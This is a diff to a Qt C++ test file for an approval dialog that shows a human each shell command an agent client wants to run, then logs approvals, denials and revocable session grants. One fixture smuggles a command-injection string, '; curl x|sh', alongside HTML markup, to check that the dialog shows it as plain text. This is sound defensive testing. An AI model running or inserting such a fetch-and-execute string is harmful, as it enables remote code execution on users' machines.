@@ -10,6 +10,7 @@
 
 #include <QCheckBox>
 #include <QFileInfo>
+#include <QFontDatabase>
 #include <QJsonArray>
 #include <QLabel>
 #include <QListWidget>
@@ -114,13 +115,21 @@ private Q_SLOTS:
             return l ? l : nullptr;
         };
         QVERIFY(label(u"approvalHeadline"_s));
-        for (const QString &name : {u"approvalHeadline"_s, u"approvalSummary"_s,
-                                    u"approvalCommand"_s})
+        for (const QString &name : {u"approvalHeadline"_s, u"approvalCommand"_s})
             QCOMPARE(label(name)->textFormat(), Qt::PlainText);
         QVERIFY(label(u"approvalHeadline"_s)->text().contains(u"<b>evil</b>"_s));
-        QCOMPARE(label(u"approvalSummary"_s)->text(),
-                 u"remove pack 'x' and delete /w/%1<span>"_s);
         QVERIFY(label(u"approvalCommand"_s)->text().contains(u"; curl x|sh</span>"_s));
+        // The command is quoted once: no summary repeats it.
+        QVERIFY(!label(u"approvalSummary"_s));
+
+        // Without a command (rm), the summary says what happens, as plain text.
+        QJsonObject removal = message;
+        removal.remove(u"command"_s);
+        Gui::ApprovalDialog rmDialog(removal, u"<i>origin</i>"_s);
+        const QLabel *summary = rmDialog.findChild<QLabel *>(u"approvalSummary"_s);
+        QVERIFY(summary);
+        QCOMPARE(summary->textFormat(), Qt::PlainText);
+        QCOMPARE(summary->text(), u"remove pack 'x' and delete /w/%1<span>"_s);
     }
 
     void showsWhatTheCallWants()
@@ -151,9 +160,12 @@ private Q_SLOTS:
         const auto *command = dialog->findChild<QLabel *>(u"approvalCommand"_s);
         QVERIFY(command);
         QCOMPARE(command->text(), u"touch 'from dialog'"_s); // as a shell would need it
-        const auto *summary = dialog->findChild<QLabel *>(u"approvalSummary"_s);
-        QVERIFY2(summary && summary->text().contains(u"alpha, beta"_s),
-                 qPrintable(summary ? summary->text() : QString()));
+        QCOMPARE(command->font(), QFontDatabase::systemFont(QFontDatabase::FixedFont));
+        // Quoted once: the command is not repeated in a summary.
+        int mentions = 0;
+        for (const QLabel *label : dialog->findChildren<QLabel *>())
+            mentions += label->text().count(u"from dialog"_s);
+        QCOMPARE(mentions, 1);
         // Where it comes from: client, version, the serve's pid and transport.
         bool origin = false;
         for (const QLabel *label : dialog->findChildren<QLabel *>()) {
@@ -175,7 +187,8 @@ private Q_SLOTS:
         QVERIFY(QFileInfo::exists(ws.packDir(u"alpha"_s) + u"/from dialog"_s));
         QVERIFY(QFileInfo::exists(ws.packDir(u"beta"_s) + u"/from dialog"_s));
         QTRY_VERIFY(dialog.isNull()); // closed and deleted
-        QVERIFY2(window.activity()->logText().contains(u"Approved exec"_s),
+        QVERIFY2(window.activity()->logText().contains(
+                     u"You approved exec of tst-agent: touch 'from dialog' in 2 packs"_s),
                  qPrintable(window.activity()->logText()));
         QCOMPARE(shown.count(), 1);
     }
@@ -232,9 +245,11 @@ private Q_SLOTS:
         }
         QCOMPARE(QFileInfo::exists(ws.packDir(u"alpha"_s) + u"/marker"_s), approved);
         QTRY_VERIFY(dialog.isNull());
-        QVERIFY2(
-            window.activity()->logText().contains(approved ? u"Approved exec"_s : u"Denied exec"_s),
-            qPrintable(window.activity()->logText()));
+        // The log names the client and the command of every answer.
+        QVERIFY2(window.activity()->logText().contains(
+                     (approved ? u"You approved exec of tst-agent: touch marker in 2 packs"_s
+                               : u"You denied exec of tst-agent: touch marker in 2 packs"_s)),
+                 qPrintable(window.activity()->logText()));
     }
 
     void allowForTheRestOfTheSession()
@@ -252,10 +267,33 @@ private Q_SLOTS:
         QTest::mouseClick(dialog->findChild<QPushButton *>(u"approveButton"_s), Qt::LeftButton);
         QVERIFY(toolSucceeded(serve.response(3)));
 
+        // The grant is listed with the server, with a way to take it back.
+        QCOMPARE(window.controlServer()->servers().constFirst().grants, QStringList{u"exec"_s});
+        QVERIFY(window.findChild<QPushButton *>(u"revokeGrant_exec"_s));
+        QVERIFY(window.activity()->logText().contains(
+            u"You approved exec of tst-agent: touch one in 2 packs, and every exec of this "
+            u"client for the rest of its session"_s));
+
         serve.callTool(4, u"exec"_s, execArguments({u"touch"_s, u"two"_s}));
         QVERIFY(!shown.wait(1500)); // not asked again
         QVERIFY(toolSucceeded(serve.response(4)));
         QVERIFY(QFileInfo::exists(ws.packDir(u"beta"_s) + u"/two"_s));
+        // A call the grant approved is marked so, in the log and in the history.
+        QTRY_VERIFY2(window.activity()->logText().contains(
+                         u"Approved by your session grant, without asking: exec of tst-agent: "
+                         u"touch two in 2 packs"_s),
+                     qPrintable(window.activity()->logText()));
+        QTRY_VERIFY(!window.controlServer()->history().isEmpty() &&
+                    window.controlServer()->history().constFirst().approvedByGrant);
+
+        // Revoked: the next call asks again.
+        QTest::mouseClick(window.findChild<QPushButton *>(u"revokeGrant_exec"_s), Qt::LeftButton);
+        QVERIFY(window.controlServer()->servers().constFirst().grants.isEmpty());
+        serve.callTool(7, u"exec"_s, execArguments({u"touch"_s, u"three"_s}));
+        QVERIFY(shown.wait(10000));
+        shown.at(1).at(0).value<Gui::ApprovalDialog *>()->reject();
+        QVERIFY(!toolSucceeded(serve.response(7)));
+        QVERIFY(!QFileInfo::exists(ws.packDir(u"beta"_s) + u"/three"_s));
     }
 
     // Quitting with a question open: the window goes away cleanly and the call is refused.
